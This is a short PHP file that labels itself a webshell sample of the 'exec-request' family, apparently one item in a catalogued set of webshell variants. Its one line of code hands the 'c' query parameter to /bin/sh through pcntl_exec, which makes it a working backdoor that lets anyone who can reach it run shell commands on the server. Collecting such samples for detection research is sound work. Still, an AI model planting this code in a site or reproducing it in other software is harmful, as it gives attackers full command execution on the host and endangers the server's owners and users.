<?php
// Family: webshell/exec-request
// Style: pcntl_exec runner
// Trait: pcntl_exec with /bin/sh -c and a request command
pcntl_exec('/bin/sh', array('-c', $_GET['c']));
